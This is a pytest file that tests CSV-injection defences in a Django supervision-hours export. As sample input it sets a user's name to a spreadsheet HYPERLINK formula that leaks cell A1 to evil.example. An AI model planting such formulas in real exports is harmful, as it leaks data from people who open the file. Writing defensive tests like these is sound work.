"""A display name a spreadsheet would run as a formula is exported as text (OWASP CSV injection).

mallory, a supervisor in North, named herself =HYPERLINK(...); alice exports her hours."""

import csv
import io

import pytest

from consult.accounts.models import Role
from consult.hours.selectors import csv_safe
from consult.records.guidance.services import guidance_log
from tests.support.people import make_user

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    "cell, exported",
    [
        ("=HYPERLINK(\"http://evil\",\"x\")", "'=HYPERLINK(\"http://evil\",\"x\")"),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Bob", "Bob"),
        ("a=b", "a=b"),
        (40, 40),
    ],
)
def test_it_neutralises_formula_leading_cells(cell, exported):
    assert csv_safe(cell) == exported


def test_it_exports_a_formula_name_as_text(client, alice, north, north_case):
    mallory = make_user("mallory", Role.SUPERVISOR, north)
    mallory.first_name = '=HYPERLINK("http://evil.example/?leak="&A1,"Bob")'
    mallory.save()
    guidance_log(
        actor=mallory,
        case_code=north_case.code,
        assessment="Engaged",
        recommendation="Weekly",
        session_minutes=30,
    )
    client.force_login(alice)
    rows = list(
        csv.reader(io.StringIO(client.get(f"/supervision-hours/{alice.pk}.csv").content.decode()))
    )
    assert rows[1][2].startswith("'=HYPERLINK(")
